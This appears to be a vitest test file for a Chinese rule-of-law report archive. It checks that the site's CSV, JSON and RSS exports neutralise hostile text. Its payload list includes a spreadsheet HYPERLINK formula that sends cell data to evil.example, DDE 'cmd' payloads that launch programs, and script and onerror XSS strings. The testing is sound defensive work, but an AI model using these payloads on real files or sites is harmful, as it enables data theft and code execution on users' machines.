/**
 * Every export the site writes from report data (indicators.csv, reports.json and the places'
 * JSON, feed.xml), fed hostile values in every text a report carries: the CSV's text cells cannot
 * start a spreadsheet formula and still parse back, the JSON parses back to exactly the values,
 * and the feed is XML whose text is escaped (no markup, no CDATA end).
 */
import { getRssString } from '@astrojs/rss';
import * as cheerio from 'cheerio';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, feedItem, indicatorsCsv, neutraliseCell, reportJson, reportsJson, type OpenReportInput } from '../src/lib/figures/opendata';

/** Texts that try to become a formula, markup, script, CDATA end or a broken line where an export is opened. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C notepad\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  'end]]><![CDATA[<b>bold</b>',
  '他说："依法"，又说\'行政\'。, ;',
  '第一行\n第二行\r\n第三行',
  'line\u2028separator\u2029paragraph',
  '<img src=x onerror=alert(3)>&amp;',
];

/** A report whose every text field (title, issuer, place, source, quotes, units, notes) is hostile text `i`. */
function hostileReport(i: number): OpenReportInput {
  const text = HOSTILE[i % HOSTILE.length];
  const other = HOSTILE[(i + 1) % HOSTILE.length];
  return {
    place: { id: `hunan/p${i}`, name: text, fullName: other, level: 'county', code: i % 2 ? '-430000' : '=430000' },
    year: 2020 + (i % 5),
    url: `https://fazhi.example/places/hunan/p${i}/${2020 + (i % 5)}/`,
    data: {
      title: text,
      titleInferred: false,
      issuer: other,
      documentDate: new Date('2024-03-01'),
      source: { site: text, url: 'https://gov.example/a?b=1&c=2', publisher: other },
      indicators: {
        // A negative number stays a number (no formula can hide in one).
        reconsiderationReceived: { value: -(i + 1), quote: text, unit: other, approximate: i % 2 === 0, note: other },
        reconsiderationCorrectionRate: { value: 12.5, quote: other, approximate: false, note: text },
      },
    },
  };
}
const REPORTS = HOSTILE.map((_, i) => hostileReport(i));

describe('indicators.csv', () => {
  const csv = indicatorsCsv(REPORTS);
  const rows = parse(csv, { bom: true, columns: true, relax_quotes: false }) as Record<string, string>[];

  it('starts no text cell with a formula character, whatever the report says', () => {
    expect(rows).toHaveLength(REPORTS.length * 2);
    for (const row of rows) {
      for (const column of CSV_COLUMNS) {
        if (column === 'year' || column === 'value') continue;
        expect(row[column], `${column}: ${JSON.stringify(row[column])}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('parses back to exactly what the reports say, a neutralised cell less its leading quote', () => {
    const unquote = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
    const expected = REPORTS.flatMap((r) =>
      Object.entries(r.data.indicators).map(([key, v]) => ({
        place_name: r.place.fullName,
        code: r.place.code,
        key,
        quote: v.quote,
        value: v.value,
        year: r.year,
      })),
    );
    const actual = rows.map((row) => ({
      place_name: unquote(row.place_name),
      code: unquote(row.code),
      key: row.key,
      quote: unquote(row.quote),
      value: Number(row.value),
      year: Number(row.year),
    }));
    expect(actual.sort((a, b) => a.quote.localeCompare(b.quote) || a.value - b.value)).toEqual(expected.sort((a, b) => a.quote.localeCompare(b.quote) || a.value - b.value));
    // Units of counts come from the report (宗, 人次): they are text cells too.
    expect(rows.filter((r) => r.key === 'reconsiderationReceived').map((r) => unquote(r.unit))).toEqual(REPORTS.map((r) => r.data.indicators.reconsiderationReceived.unit));
  });

  it('writes numbers as numbers: a negative value keeps its minus sign and no quote', () => {
    expect(rows.find((r) => r.place_id === 'hunan/p0' && r.key === 'reconsiderationReceived')!.value).toBe('-1');
    expect(rows.find((r) => r.place_id === 'hunan/p0' && r.key === 'reconsiderationCorrectionRate')!.value).toBe('12.5');
    expect(csv).toMatch(/,-1,/);
  });

  it('keeps the BOM, CRLF records and the columns', () => {
    expect(csv.startsWith(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(Object.keys(rows[0])).toEqual([...CSV_COLUMNS]);
  });

  it('neutralises exactly the cells OWASP names, and nothing else', () => {
    for (const c of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseCell(`${c}1`)).toBe(`'${c}1`);
    for (const c of ['全年', '1-2', '“=”', ' =1', '', "'"]) expect(neutraliseCell(c)).toBe(c);
  });
});

describe('reports.json and the places’ JSON', () => {
  it('parse back to exactly the values, in every field', () => {
    const json = reportsJson(REPORTS);
    const parsed = JSON.parse(json) as { count: number; reports: ReturnType<typeof reportJson>[] };
    expect(parsed.count).toBe(REPORTS.length);
    // Dates become days, everything else is the value itself.
    expect(parsed.reports).toEqual(JSON.parse(JSON.stringify(REPORTS.map(reportJson))));
    REPORTS.forEach((r, i) => {
      const p = parsed.reports[i];
      expect(p.title).toBe(r.data.title);
      expect(p.issuer).toBe(r.data.issuer);
      expect(p.place).toEqual(r.place);
      expect(p.source).toEqual(r.data.source);
      expect(p.documentDate).toBe('2024-03-01');
      for (const [key, v] of Object.entries(r.data.indicators)) {
        expect(p.indicators[key]).toMatchObject({ value: v.value, quote: v.quote, note: v.note });
      }
    });
  });

  it('a place’s JSON (the same report shape) parses back too', () => {
    const place = JSON.stringify({ place: { id: 'hunan/p0', name: HOSTILE[0] }, reports: REPORTS.slice(0, 3).map(reportJson) }, null, 1);
    expect(JSON.parse(place).reports[2].title).toBe(REPORTS[2].data.title);
    expect(JSON.parse(place).place.name).toBe(HOSTILE[0]);
  });
});

describe('feed.xml', async () => {
  const items = REPORTS.map((r) =>
    feedItem({
      title: r.data.title,
      link: new URL(r.url).pathname,
      date: r.data.documentDate,
      placeFullName: r.place.fullName,
      province: r.place.name,
      year: r.year,
      issuer: r.data.issuer,
    }),
  );
  const xml = await getRssString({ title: '法治政府建设年度报告库', description: 'x', site: 'https://fazhi.example/', customData: '<language>zh-CN</language>', items });

  it('has no markup, script or CDATA end from the reports', () => {
    expect(xml).not.toMatch(/<script/i);
    expect(xml).not.toMatch(/<img/i);
    expect(xml).not.toContain(']]>');
    expect(xml).not.toContain('<![CDATA[');
    expect(xml.match(/<item>/g)).toHaveLength(REPORTS.length);
  });

  it('parses as XML, each item’s text the report’s', () => {
    // XML parsers normalise line breaks (a CR becomes LF or goes): compared with spaces collapsed.
    const text = (s: string) => s.replace(/\s+/g, ' ').trim();
    const $ = cheerio.load(xml, { xml: true });
    const parsed = $('item')
      .map((_, item) => ({
        title: text($(item).children('title').text()),
        description: text($(item).children('description').text()),
        categories: $(item)
          .children('category')
          .map((_, c) => text($(c).text()))
          .get(),
        link: $(item).children('link').text(),
      }))
      .get();
    expect(parsed).toEqual(
      REPORTS.map((r) => ({
        title: text(r.data.title),
        description: text(`${r.place.fullName} ${r.year}年度 · ${r.data.issuer}`),
        categories: [text(r.place.name), String(r.year)],
        link: r.url,
      })),
    );
    expect($('item title').first().text()).toBe(HOSTILE[0]);
  });
});
